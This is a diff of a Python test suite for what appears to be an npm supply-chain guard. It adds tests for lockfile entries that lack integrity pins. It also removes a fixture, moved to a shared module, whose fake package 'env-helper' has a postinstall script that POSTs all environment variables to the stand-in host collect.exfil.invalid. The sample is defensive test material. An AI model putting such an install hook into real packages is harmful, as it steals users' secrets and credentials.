@@ -16,7 +16,7 @@ from airlock.install.npm import npm_cache_dir
 from airlock.registry.cache import default_cache_dir
 from tests.fakes.registry import FakeRegistry
 from tests.fakes.tarballs import build_package
-from tests.install.projects import ONCE, WRAPPY, Dep, publish, tree_hash, write_project
+from tests.install.projects import EXFIL, ONCE, WRAPPY, publish, tree_hash, write_project
 
 pytestmark = pytest.mark.requires_node
 
@@ -57,21 +57,6 @@ def _snapshot(root: Path) -> tuple[bytes, bytes, str]:
         (root / "package-lock.json").read_bytes(),
         tree_hash(root / "node_modules"),
     )
-
-
-EXFIL = Dep(
-    "env-helper",
-    "1.0.1",
-    {
-        "index.js": "module.exports = {}\n",
-        "install.js": (
-            "const https = require('https')\n"
-            "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/e', method: 'POST' })\n"
-            "req.end(JSON.stringify(process.env))\n"
-        ),
-    },
-    scripts={"postinstall": "node install.js"},
-)
 
 
 def test_blocked_package_changes_nothing(project: Path, fake_registry: FakeRegistry) -> None:
@@ -125,3 +110,34 @@ def test_stale_staging_of_a_killed_run_is_removed(project: Path) -> None:
     assert outcome.exit_code is ExitCode.OK
     assert outcome.stale_removed == (stale,)
     assert not stale.exists()
+
+
+def _unpin(root: Path, name: str) -> None:
+    lock = json.loads((root / "package-lock.json").read_text())
+    del lock["packages"][f"node_modules/{name}"]["integrity"]
+    (root / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")
+
+
+def test_unpinned_entry_gets_the_bytes_the_check_analysed(project: Path) -> None:
+    _unpin(project, "wrappy")
+    outcome = run_ci(_request(project))
+    assert outcome.exit_code is ExitCode.OK
+    [wrappy] = [r for r in outcome.outcome.reports if r.name == "wrappy"]
+    assert any(f.rule == "lockfile-missing-integrity" for f in wrappy.findings)
+    installed = (project / "node_modules" / "wrappy" / "index.js").read_text()
+    assert installed == WRAPPY.files["index.js"]
+    assert outcome.install is not None and outcome.install.view_served == 2
+
+
+def test_unpinned_entry_whose_registry_bytes_change_is_never_installed(
+    project: Path, fake_registry: FakeRegistry
+) -> None:
+    _unpin(project, "wrappy")
+    assert run_ci(_request(project)).exit_code is ExitCode.OK
+    before = _snapshot(project)
+    shutil.rmtree(default_cache_dir() / "tarballs")
+    shutil.rmtree(npm_cache_dir())
+    fake_registry.set_tarball("wrappy", "1.0.2", build_package("wrappy", "1.0.2", {"index.js": "// other\n"}))
+    with pytest.raises(InstallRefusedError):
+        run_ci(_request(project))
+    assert _snapshot(project) == before
